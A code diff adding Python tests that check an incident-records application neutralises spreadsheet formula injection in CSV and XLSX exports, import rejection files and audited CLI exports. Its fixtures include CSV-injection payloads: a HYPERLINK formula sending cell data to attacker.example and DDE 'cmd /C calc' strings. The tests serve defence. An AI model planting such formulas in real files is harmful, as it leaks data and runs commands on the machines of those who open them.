@@ -5,10 +5,13 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
 from pathlib import Path
 
+import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
+from sqlalchemy import func, select
 
 from interdict.accounts.service import subject_by_username
 from interdict.core.db import unit_of_work
@@ -249,3 +252,128 @@ def test_a_row_with_more_cells_than_the_header_is_rejected(client: TestClient, w
     assert [r.line for r in report.rejected] == [2]
     assert "1 more cell(s) than the header" in report.rejected[0].message()
     assert report.imported == 0
+
+
+# --- formula injection (issue 16) -----------------------------------------------------------------
+
+# What a spreadsheet program runs as a formula when a cell begins with it (OWASP CSV injection; full-width
+# forms are converted by some input methods). A cell that is a plain number is a number, not a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click for details")'
+EVIL = dict(
+    case_reference=HYPERLINK,
+    place_name="+cmd|' /C calc'!A0",
+    bl_awb="-2+3+cmd|' /C calc'!A0",
+    vessel_name="@SUM(1+1)*cmd|' /C calc'!A0",
+    voyage="-12.5",  # a text that is a plain number: a number to the spreadsheet, written as it is
+    vehicle_plate="\uff1d1+1",  # full-width equals sign
+    parcel_tracking="'=1+1",  # a genuine leading quote before a formula character
+    goods_description="'quoted on purpose",  # a genuine leading quote
+    narrative="=1+1\nsecond line @here",
+    containers=[
+        {"number": "CSQU3054383", "seal_numbers": "=SEAL()"},
+        {"number": "MSCU1234566", "seal_numbers": "-7"},
+    ],
+    substances=[
+        {"other_description": "@unknown powder", "declared_as": "+declared as tea", "quantity": "2", "unit": "kg"}
+    ],
+    parties=[
+        {
+            "role": "shipper",
+            "kind": "company",
+            "name": HYPERLINK,
+            "address": "-1 Evil Street",
+            "tax_id": "@tax",
+            "id_document": "''two quotes",
+            "phone": "+84 28 3822 1234",
+            "email": "=cmd@evil.example",
+        },
+        {"role": "person_involved", "kind": "person", "name": "-Nguyễn Văn Độc", "address": "+Phường 1"},
+    ],
+)
+
+
+def _is_formula(cell: str) -> bool:
+    return cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)
+
+
+def test_formula_characters_in_every_free_text_column_are_neutralised_and_import_back(
+    client: TestClient, world: World, tmp_path: Path
+) -> None:
+    _create(client, world, submit=True, **EVIL)
+    before = _all(client, world)
+    h = world.h("officer.hp")
+
+    # (a) CSV: no cell a spreadsheet would run; a neutralised cell is the text behind one quote.
+    csv_bytes = client.get("/api/v1/incidents/export", params={"format": "csv"}, headers=h).content
+    cells = [c for row in csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))) for c in row]
+    assert [c for c in cells if _is_formula(c)] == []
+    row = next(csv.DictReader(io.StringIO(csv_bytes.decode("utf-8-sig"))))
+    assert row["case_reference"] == "'" + HYPERLINK and row["party_1_name"] == "'" + HYPERLINK
+    assert row["voyage"] == "-12.5"
+    assert row["parcel_tracking"] == "''=1+1" and row["goods_description"] == "''quoted on purpose"
+    assert row["narrative"] == "'=1+1\nsecond line @here" and row["container_seals"] == "'=SEAL(); -7"
+
+    # (b) XLSX: no formula cell (and no error value), every text cell neutralised.
+    xlsx_bytes = client.get("/api/v1/incidents/export", params={"format": "xlsx"}, headers=h).content
+    (tmp_path / "evil.xlsx").write_bytes(xlsx_bytes)
+    ws = load_workbook(tmp_path / "evil.xlsx").worksheets[0]
+    all_cells = [c for r in ws.iter_rows() for c in r if c.value is not None]
+    assert {c.data_type for c in all_cells} == {"s"}
+    assert [c.value for c in all_cells if _is_formula(str(c.value))] == []
+
+    # (c) Both files import back to the identical record (the leading quote is removed again on import).
+    for name, content in (("evil.csv", csv_bytes), ("evil.xlsx", xlsx_bytes)):
+        clean(client.app)  # type: ignore[arg-type]
+        path = tmp_path / name
+        path.write_bytes(content)
+        report = _import(client, path)
+        assert report.imported == 1, [r.message() for r in report.rejected]
+        assert [_comparable(x) for x in _all(client, world)] == [_comparable(x) for x in before], name
+
+
+def test_the_rejection_file_of_an_import_is_neutralised_too(client: TestClient, world: World, tmp_path: Path) -> None:
+    evil = ["seizure", "2026-01-02", "VN", "", "CSQU3054384", "", "", "", "consignee", HYPERLINK, "@submitted"]
+    report = _import(client, _write(tmp_path / "in.csv", [evil]))
+    assert [r.line for r in report.rejected] == [2]
+    out = tmp_path / "rejected.csv"
+    importexport.write_rejections(out, report)
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert [c for c in cells if _is_formula(c)] == [] and "'" + HYPERLINK in cells
+
+
+def test_the_cli_export_in_every_format_is_audited_with_its_format_and_row_count(
+    client: TestClient, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from typer.testing import CliRunner
+
+    from interdict.audit.models import AuditEntry
+    from interdict.cli import app
+
+    _create(client, world, submit=True)
+    _create(client, world, submit=True, **EVIL)
+    settings = world.app.state.settings
+    monkeypatch.setenv("INTERDICT_DATABASE_URL", settings.effective_database_url)
+    monkeypatch.setenv("INTERDICT_DATA_DIR", str(settings.data_dir))
+    monkeypatch.setenv("INTERDICT_SECRET_KEY", "test-secret-key")
+    with world.session() as s:
+        mark = s.scalar(select(func.max(AuditEntry.seq))) or 0
+    for fmt in ("csv", "xlsx", "json"):
+        out = tmp_path / f"incidents.{fmt}"
+        args = ["export", "incidents", "--user", "viewer.hp", "--format", fmt, "--output", str(out)]
+        r = CliRunner().invoke(app, args)
+        assert r.exit_code == 0, r.output
+        assert "exported 2 incidents" in r.output and out.exists()
+        assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".part")] == []
+    with world.session() as s:
+        got = list(s.scalars(select(AuditEntry).where(AuditEntry.seq > mark).order_by(AuditEntry.seq)))
+        entries = [(e.action, e.actor_username, e.channel, e.after["format"], e.after["rows"]) for e in got]
+    assert entries == [
+        ("incident.export", "viewer.hp", "cli", "csv", 2),
+        ("incident.export", "viewer.hp", "cli", "xlsx", 2),
+        ("incident.export", "viewer.hp", "cli", "json", 2),
+    ]
+    cells = [c for row in csv.reader((tmp_path / "incidents.csv").open(encoding="utf-8-sig")) for c in row]
+    assert [c for c in cells if _is_formula(c)] == []
